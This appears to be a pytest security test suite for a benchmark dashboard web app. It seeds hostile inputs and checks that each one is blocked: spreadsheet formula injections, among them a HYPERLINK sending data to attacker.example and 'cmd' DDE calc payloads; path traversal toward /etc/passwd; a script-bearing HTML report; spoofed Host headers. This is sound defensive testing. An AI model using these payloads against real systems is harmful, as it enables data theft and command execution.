"""The dashboard probed as an attacker would, over real HTTP(S) against `edgeloop dashboard`
processes (`--port 0`), with Debian's chromium where a browser's behaviour is the point.

The database holds real measurements of a real agent, plus what a hostile writer of a shared
database could put there: formulas in text cells, gate rows naming files outside the reports
folder (/etc/passwd, `../`, a symlink out), an HTML report with a script, and run ids with
characters that mean something in a URL. The TLS test makes its own self-signed certificate.
"""

from __future__ import annotations

import csv
import html
import http.client
import io
import re
import sqlite3
import ssl
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Optional
from urllib.parse import quote, unquote, urlsplit

import pytest

from tests.ab_models import edgeloop
from tests.fixtures_browser import chromium, dashboard_server  # noqa: F401 (fixture)
from tests.fixtures_tls import self_signed_cert
from toolkit.measurement import BenchmarkOptions

QUICK = BenchmarkOptions(warmup_runs=3, min_runs=20, min_seconds=0.2)
ROWS = 60  # more than one page (queries.PAGE_SIZE is 50): the pages link to each other
FORMULAS = {
    "model_name": '=HYPERLINK("http://attacker.example/?"&A1,"open")',
    "tag": "@SUM(1+1)*cmd|' /C calc'!A0",
    "run_id": "+1+cmd|' /C calc'!A0",
    "device_hostname": "-2+3+cmd|' /C calc'!A0",
    "runtime_version": "\t=1+2",
}
GATE_RUN = "gate #1/a?b&c"
TUNE_RUN = "tune #2/x?y&z"
SCRIPTED = "<script>document.body.textContent='SCRIPTED';fetch('/measurements.csv?report')</script>"
SECURITY_HEADERS = ("content-security-policy", "x-frame-options", "x-content-type-options")


@dataclass
class Lab:
    db: Path
    reports: Path
    secret: Path
    rows: int
    env: dict[str, str]

    @property
    def url(self) -> str:
        return f"sqlite:///{self.db}"


@dataclass
class Answer:
    status: int
    headers: dict[str, str]
    body: str


def get(
    base: str,
    path: str,
    host: Optional[str] = None,
    headers: Optional[dict[str, str]] = None,
    cafile: Optional[Path] = None,
) -> Answer:
    """One GET over a fresh connection, redirects not followed, `Host` as given."""
    parts = urlsplit(base)
    if parts.scheme == "https":
        context = ssl.create_default_context(cafile=str(cafile))
        conn = http.client.HTTPSConnection(parts.hostname, parts.port, timeout=60, context=context)
    else:
        conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=60)
    try:
        conn.putrequest("GET", path, skip_host=True, skip_accept_encoding=True)
        conn.putheader("Host", host if host is not None else parts.netloc)
        for name, value in (headers or {}).items():
            conn.putheader(name, value)
        conn.endheaders()
        response = conn.getresponse()
        body = response.read().decode("utf-8", "replace")
        return Answer(response.status, {k.lower(): v for k, v in response.getheaders()}, body)
    finally:
        conn.close()


def _validation_run(db: sqlite3.Connection, run_id: str, junit: str = "", html: str = "") -> None:
    db.execute(
        "INSERT INTO validation_runs (run_id, started, fleet, artifact, passed, devices, "
        "failed_devices, junit_path, html_path) VALUES (?, ?, 'lab', 'm.tflite', 0, 1, 1, ?, ?)",
        (run_id, time.time(), junit or None, html or None),
    )


@pytest.fixture(scope="module")
def lab(agent, tmp_path_factory) -> Lab:
    from tests.model_files import build_tflite, tiny_cnn
    from toolkit.results.store import ResultsStore

    root = tmp_path_factory.mktemp("security")
    model = build_tflite(tiny_cnn(), root / "tiny.tflite")
    plain = [agent.benchmark(model, QUICK, name="tiny.tflite") for _ in range(2)]
    tricky = agent.benchmark(model, QUICK, name=FORMULAS["model_name"])
    db = root / "results.db"
    store = ResultsStore(db)
    for i in range(ROWS - 1):
        store.append(plain[i % 2], run_id="r1")
    ResultsStore(db, tag=FORMULAS["tag"]).append(tricky, run_id=FORMULAS["run_id"])
    reports, outside = root / "reports", root / "outside"
    reports.mkdir()
    outside.mkdir()
    (reports / "junit.xml").write_text('<testsuite name="gate"/>\n')
    (reports / "gate.html").write_text(f"<html><body><p>lab-nuc FAIL</p>{SCRIPTED}</body></html>")
    secret = outside / "secret.html"
    secret.write_text("<p>SECRET-OUTSIDE</p>")
    (reports / "link.html").symlink_to(secret)
    with sqlite3.connect(db) as conn:
        last = conn.execute("SELECT max(id) FROM measurements").fetchone()[0]
        conn.execute(  # idle power above the mean: a negative energy is a number, not a formula
            "UPDATE measurements SET energy_mj = -0.5, device_hostname = ?, runtime_version = ? "
            "WHERE id = ?",
            (FORMULAS["device_hostname"], FORMULAS["runtime_version"], last),
        )
        _validation_run(conn, GATE_RUN, str(reports / "junit.xml"), str(reports / "gate.html"))
        _validation_run(conn, "steal-passwd", junit="/etc/passwd")
        _validation_run(conn, "steal-outside", html=str(secret))
        _validation_run(conn, "steal-dotdot", html=f"{reports}/../outside/secret.html")
        _validation_run(conn, "steal-symlink", html=str(reports / "link.html"))
        conn.execute(
            "INSERT INTO tune_runs (run_id, created, model, strategy) VALUES (?, ?, 'm', 'grid')",
            (TUNE_RUN, time.time()),
        )
    (root / "profiles").mkdir()  # no fleet files: the devices page asks no agent
    env = {"EDGELOOP_PROFILES": str(root / "profiles"), "EDGELOOP_HOME": str(root / "home")}
    return Lab(db, reports, secret, ROWS, env)


@pytest.fixture(scope="module")
def server(lab):
    """The default dashboard: loopback, no token; gate reports from the lab's reports folder."""
    args = ("--lists-ttl", "0", "--reports-dir", str(lab.reports))
    with dashboard_server(lab.url, env=lab.env, args=args) as srv:
        yield srv


def _token_file(folder: Path, value: str = "s3cret-lab-token") -> Path:
    path = folder / "token"
    path.write_text(value + "\n")
    path.chmod(0o600)
    return path


# -- beyond loopback: TLS and a token, or no start -------------------------------------------


def test_serving_beyond_loopback_without_tls_and_a_token_is_refused_in_one_line(lab, tmp_path):
    token = _token_file(tmp_path)
    cert, key = self_signed_cert(tmp_path)
    base = ("dashboard", "--host", "0.0.0.0", "--port", "0", "--db", lab.url)
    for extra, missing in (
        (("--token-file", str(token)), "without TLS (--tls-cert and --tls-key)"),
        (("--tls-cert", str(cert), "--tls-key", str(key)), "without a token (--token-file"),
        ((), "without TLS (--tls-cert and --tls-key) and a token"),
    ):
        done = edgeloop(*base, *extra, home=tmp_path / "home", check=False, timeout=60)
        assert done.returncode == 2, done.stderr
        assert missing in done.stderr
        assert len(done.stderr.strip().splitlines()) == 1, done.stderr


def test_a_browser_reads_the_dashboard_over_https_beyond_loopback_with_a_secure_cookie(
    lab,
    chromium,  # noqa: F811 - the fixture imported above
    tmp_path,
):
    cert, key = self_signed_cert(tmp_path)
    token = _token_file(tmp_path)
    args = ("--host", "0.0.0.0", "--tls-cert", str(cert), "--tls-key", str(key))
    with dashboard_server(lab.url, env=lab.env, args=(*args, "--token-file", str(token))) as srv:
        assert srv.url.startswith("https://")
        base = f"https://127.0.0.1:{urlsplit(srv.url).port}"
        with pytest.raises((ssl.SSLError, http.client.HTTPException, ConnectionError)):
            get(base.replace("https", "http"), "/devices")  # no plaintext on the same port
        denied = get(base, "/devices", cafile=cert)
        assert denied.status == 401
        context = chromium.new_context(ignore_https_errors=True)  # self-signed; urllib verifies
        try:
            page = context.new_page()
            page.goto(f"{base}/measurements?token=s3cret-lab-token")
            assert page.url == f"{base}/measurements"  # redirected without the token
            assert page.text_content("#total") == str(lab.rows)
            cookie = next(c for c in context.cookies() if c["name"] == "edgeloop_dashboard")
            assert cookie["secure"] and cookie["httpOnly"] and cookie["sameSite"] == "Strict"
            assert "s3cret" not in page.evaluate("document.cookie")  # scripts cannot read it
            page.goto(f"{base}/gates")  # the cookie carries it from now on
            assert page.locator(".gate-run").count() == 5
        finally:
            context.close()


# -- Host: only names the dashboard serves (DNS rebinding) -----------------------------------


def test_a_host_header_the_dashboard_does_not_serve_is_refused(lab, server):
    port = urlsplit(server.url).port
    for host in ("attacker.example", f"attacker.example:{port}", f"127.0.0.1.nip.io:{port}", ""):
        answer = get(server.url, "/measurements.csv", host=host)
        assert answer.status == 400, host
        assert "tiny.tflite" not in answer.body and "--server-name" in answer.body
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"[::1]:{port}", "LOCALHOST"):
        answer = get(server.url, "/measurements.csv", host=host)
        assert answer.status == 200 and "tiny.tflite" in answer.body, host
    with dashboard_server(
        lab.url, env=lab.env, args=("--server-name", "dash.lab.example")
    ) as named:
        port = urlsplit(named.url).port
        assert get(named.url, "/devices", host=f"dash.lab.example:{port}").status == 200
        assert get(named.url, "/devices", host=f"other.lab.example:{port}").status == 400


# -- gate reports: only from the reports folder, never scripting the dashboard ---------------


def test_gate_reports_are_served_only_from_inside_the_reports_folder(lab, server):
    for run in ("steal-passwd", "steal-outside", "steal-dotdot", "steal-symlink"):
        for kind in ("junit", "html"):
            answer = get(server.url, f"/gates/{run}/{kind}")
            assert answer.status == 404, (run, kind)
            assert "root:" not in answer.body and "SECRET-OUTSIDE" not in answer.body
    run = quote(GATE_RUN, safe="")
    junit = get(server.url, f"/gates/{run}/junit")
    assert junit.status == 200 and "<testsuite" in junit.body
    assert junit.headers["content-disposition"].startswith("attachment")
    report = get(server.url, f"/gates/{run}/html")
    assert report.status == 200 and "lab-nuc FAIL" in report.body
    assert "sandbox" in report.headers["content-security-policy"]
    with dashboard_server(lab.url, env=lab.env) as unconfigured:  # no --reports-dir: none
        assert get(unconfigured.url, f"/gates/{run}/html").status == 404


def test_an_html_report_cannot_run_script_on_the_dashboard_origin(
    lab,
    server,
    chromium,  # noqa: F811 - the fixture imported above
):
    context = chromium.new_context()
    try:
        page = context.new_page()
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.goto(server.url + "gates")
        page.click(f".gate-run[data-run='{GATE_RUN}'] a:has-text('HTML report')")
        page.wait_for_load_state("load")
        assert "lab-nuc FAIL" in page.content()
        assert "SCRIPTED" not in page.inner_text("body")
        assert not [url for url in asked if "measurements.csv" in url]
    finally:
        context.close()


# -- CSV export: text that a spreadsheet would run is neutralised ------------------------------


def test_csv_export_neutralises_spreadsheet_formulas_and_keeps_numbers_numbers(lab, server):
    answer = get(server.url, "/measurements.csv")
    assert answer.status == 200
    rows = list(csv.DictReader(io.StringIO(answer.body)))
    assert len(rows) == lab.rows
    tricky = rows[-1]
    for column, value in FORMULAS.items():
        assert tricky[column] == "'" + value, column
    assert tricky["energy_mj"] == "-0.5"  # a negative number is not a formula
    assert rows[0]["model_name"] == "tiny.tflite" and float(rows[0]["p50_ms"]) > 0
    formula = re.compile(r"^[=+\-@\t\r]")
    for row in rows:
        for column, cell in row.items():
            if formula.match(cell):
                assert _is_number(cell), (column, cell)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# -- the token never lands in a link -----------------------------------------------------------


def test_a_token_in_the_address_is_swapped_for_a_strict_cookie_and_never_put_in_a_link(
    lab, tmp_path
):
    token = _token_file(tmp_path)
    bearer = {"Authorization": "Bearer s3cret-lab-token"}
    with dashboard_server(lab.url, env=lab.env, args=("--token-file", str(token))) as srv:
        # Even with the token already in a header, `?token=` is answered by a redirect without it.
        answer = get(srv.url, "/measurements?device=&token=s3cret-lab-token&page=1", headers=bearer)
        assert answer.status == 303
        assert answer.headers["location"] == "/measurements?device=&page=1"
        cookie = answer.headers["set-cookie"].lower()
        assert "httponly" in cookie and "samesite=strict" in cookie
        assert get(srv.url, "/measurements?token=wrong", headers=bearer).status == 401
        page = get(srv.url, "/measurements?page=0", headers=bearer)
        assert page.status == 200 and 'id="older"' in page.body and "token" not in _links(page)
    with dashboard_server(lab.url, env=lab.env) as open_srv:  # no token: a stray one not echoed
        page = get(open_srv.url, "/measurements?token=pasted-by-mistake&device=")
        assert page.status == 200 and 'id="older"' in page.body
        assert "token" not in _links(page) and "pasted-by-mistake" not in _links(page)


def _links(answer: Answer) -> str:
    return " ".join(unquote(h) for h in re.findall(r'href="([^"]*)"', answer.body))


# -- out-of-range input: 4xx, never 500 --------------------------------------------------------


def test_out_of_range_page_numbers_are_answered_with_400(lab, server):
    for page in ("184467440737095517", "99999999999999999999999", "-1", "abc", "2", "1e3"):
        answer = get(server.url, f"/measurements?page={page}")
        assert answer.status == 400, page
        assert "expected a whole number from 0 to 1" in answer.body, page
    assert get(server.url, "/measurements?page=1").status == 200
    assert get(server.url, "/measurements?since=2026-13-45").status == 400
    assert get(server.url, "/static/../app.py").status == 404


# -- run ids are URL-encoded in links ----------------------------------------------------------


def test_run_ids_with_url_characters_link_to_their_own_pages(lab, server):
    tuning = get(server.url, "/tuning")
    shown = html.escape(TUNE_RUN, quote=False)
    href = re.search(r'<a href="(/tuning/[^"]+)">' + re.escape(shown), tuning.body)
    assert href and href[1] == "/tuning/" + quote(TUNE_RUN, safe="")
    run_page = get(server.url, href[1])
    assert run_page.status == 200 and f"Tuning run {shown}" in run_page.body
    gates = get(server.url, "/gates")
    links = re.findall(r'href="(/gates/[^"]+/junit)"', gates.body)
    assert "/gates/" + quote(GATE_RUN, safe="") + "/junit" in links
    for link in links:
        assert get(server.url, link).status in (200, 404)  # each names its own run
    assert get(server.url, "/gates/" + quote(GATE_RUN, safe="") + "/junit").status == 200


# -- headers on every response ----------------------------------------------------------------


def test_every_response_carries_csp_frame_and_nosniff_headers(lab, server, tmp_path):
    port = urlsplit(server.url).port
    answers = [
        get(server.url, path)
        for path in (
            "/",
            "/devices",
            "/measurements",
            "/measurements.csv",
            "/measurements?page=-1",
            "/tuning/no-such-run",
            "/static/dashboard.js",
            "/static/plotly.min.js",
            "/api/devices/live",
        )
    ]
    answers.append(get(server.url, "/devices", host=f"attacker.example:{port}"))
    with dashboard_server(
        lab.url, env=lab.env, args=("--token-file", str(_token_file(tmp_path)))
    ) as srv:
        answers.append(get(srv.url, "/devices"))
    assert {a.status for a in answers} >= {200, 307, 400, 401, 404}
    for answer in answers:
        for name in SECURITY_HEADERS:
            assert name in answer.headers, (answer.status, name)
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["x-frame-options"] == "DENY"
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
    policy = dict(
        d.strip().split(" ", 1) for d in answers[1].headers["content-security-policy"].split(";")
    )
    assert policy["script-src"] == "'self'"  # no inline script, no eval, nothing from elsewhere


def test_pages_draw_their_charts_with_no_policy_violation(
    lab,
    server,
    chromium,  # noqa: F811 - the fixture imported above
):
    context = chromium.new_context()
    try:
        page = context.new_page()
        console: list[str] = []
        page.on("console", lambda message: console.append(message.text))
        for path, charts in (("measurements", 1), ("history?model=tiny.tflite&by=day", 1)):
            response = page.goto(server.url + path)
            assert "script-src 'self'" in response.headers["content-security-policy"]
            page.wait_for_selector(".js-plotly-plot", timeout=30_000)
            assert page.locator(".js-plotly-plot").count() == charts, path
        page.goto(server.url + "devices")
        page.wait_for_selector("body[data-live]", state="attached", timeout=30_000)
        assert not [m for m in console if "Content Security Policy" in m], console
    finally:
        context.close()


def test_the_bind_address_and_loopback_names_are_served_names():
    from toolkit.dashboard.web import host_name, served_names

    names = served_names("10.1.2.3", ["Dash.Lab.Example."])
    assert names >= {"127.0.0.1", "localhost", "::1", "10.1.2.3", "dash.lab.example"}
    assert "0.0.0.0" not in served_names("0.0.0.0")
    assert host_name("[::1]:8750") == "::1" and host_name("LocalHost.:80") == "localhost"
    assert host_name("a:b:c") is None and host_name("[::1]x") is None
